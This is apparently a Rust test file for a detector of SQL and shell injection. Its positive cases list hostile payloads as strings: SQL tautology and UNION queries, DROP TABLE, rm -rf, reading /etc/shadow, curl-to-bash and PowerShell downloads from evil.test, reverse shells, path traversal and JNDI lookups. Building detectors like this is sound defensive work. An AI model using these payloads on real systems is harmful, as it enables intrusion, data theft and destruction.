//! Cases of the guard for SQL and shell injection: payloads, and what people write and quote.

mod grammar;

use crate::cases::{assert_clean, assert_found};
use crate::{engine, scan};

#[test]
fn payloads_are_found() {
    let guard = engine().guard("sql_shell_injection").expect("the guard");
    assert_found(
        guard,
        &[
            ("sql_tautology", "ada«' OR '1'='1»"),
            ("sql_tautology", "x') or ('a'='a"),
            ("sql_tautology", "\" or 1=1 --"),
            ("sql_tautology", "' or 2>1#"),
            ("sql_tautology", "' OR true--"),
            ("sql_tautology", "id=7 or 1=1"),
            ("sql_tautology", "'/**/or/**/1=1"),
            ("sql_union", "1' UNION SELECT null, null --"),
            ("sql_union", "-1 union all select 1,2,3"),
            ("sql_union", "' UNION/**/SELECT name, pass FROM users"),
            ("sql_union", "0+union+select+user()"),
            ("sql_stacked", "Robert'); DROP TABLE students;--"),
            ("sql_stacked", "1; DELETE FROM orders"),
            ("sql_stacked", "admin'--"),
            ("sql_stacked", "'; exec xp_cmdshell('dir')"),
            ("sql_stacked", "select 1 into outfile '/tmp/x'"),
            ("sql_delay", "1 AND SLEEP(5)"),
            ("sql_delay", "1 or pg_sleep(10)"),
            ("sql_delay", "1 WAITFOR DELAY '0:0:5'--"),
            ("shell_command", "photo.png; rm -rf /var"),
            ("shell_command", "a && cat /etc/passwd"),
            ("shell_command", "name | nc -l 4444"),
            ("shell_command", "$(cat /etc/shadow)"),
            ("shell_command", "`curl http://evil.test/x`"),
            ("shell_command", "run rm -rf / now"),
            ("shell_command", ":(){ :|:& };:"),
            (
                "shell_download",
                "curl -s https://evil.test/a.sh | sudo bash",
            ),
            (
                "shell_download",
                "IEX(New-Object Net.WebClient).DownloadString('http://e.test')",
            ),
            (
                "reverse_shell",
                "bash -i >& «/dev/tcp/203.0.113.7/4»444 0>&1",
            ),
            ("reverse_shell", "nc 203.0.113.7 4444 -e /bin/sh"),
            ("path_traversal", "?file=../../../../etc/passwd"),
            ("path_traversal", "..%2f..%2f..%2fconfig"),
            ("path_traversal", "..\\..\\windows\\win.ini"),
            ("template_expression", "${jndi:ldap://evil.test/a}"),
            ("template_expression", "${${lower:j}ndi:ldap://evil.test/a}"),
            ("template_expression", "{{7*7}}"),
            ("template_expression", "{{ ''.__class__.__mro__ }}"),
        ],
    );
}

#[test]
fn what_people_write_is_left_alone() {
    let guard = engine().guard("sql_shell_injection").expect("the guard");
    assert_clean(
        guard,
        &[
            "Choose 'yes' or 'no' and press enter; it's yours or theirs.",
            "Is 'a' or 'b' = c here? The dogs' or cats' bowls.",
            "SELECT id, name FROM users WHERE age > 30 OR city = 'Oslo' ORDER BY name;",
            "The European Union selected a new seat. A union select committee met.",
            "UPDATE users SET name = 'Ada' WHERE id = 7; SELECT 1;",
            "let a = 1; let b = 0; drop(b); x = '1'; y = \"2\";",
            "rm -rf target && cargo build | tee log.txt; cd ..",
            "cd ../../src && ls; import x from '../../lib/etc.js'; ../../etcetera/a",
            "Hello {{ name }}, total ${amount} and #{title}, {{price * 2}}",
            "Use $(date +%F) or `git status` in the script. `whoami is a word`",
            "curl https://api.host.test/v1/users | jq .name",
            "She said \"or else\" and left; the root' of it. sleep(5) and wait for delay",
            "if a || b { c() } else { d | e } ; id = 7; nc = 3",
            "see /dev/tcp in the manual; admin's page; root's home",
        ],
    );
}

#[test]
fn a_path_that_climbs_far_is_found_to_its_end() {
    for step in ["../", "..\\", "..%2f", "..%252f"] {
        let text = format!("?file={}etc/passwd", step.repeat(300));
        let findings = scan("sql_shell_injection", &text);
        let of_path = findings
            .iter()
            .filter(|one| one.rule_id == "path_traversal");
        let (start, end) = of_path.fold((usize::MAX, 0), |(start, end), one| {
            (start.min(one.span.start), end.max(one.span.end))
        });
        assert_eq!(end, text.len(), "{step}");
        // Where the steps are plain, the target tells; where they are encoded, they do.
        assert!(
            start <= "?file=".len() || !step.contains('%'),
            "{step}: {start}"
        );
    }
}
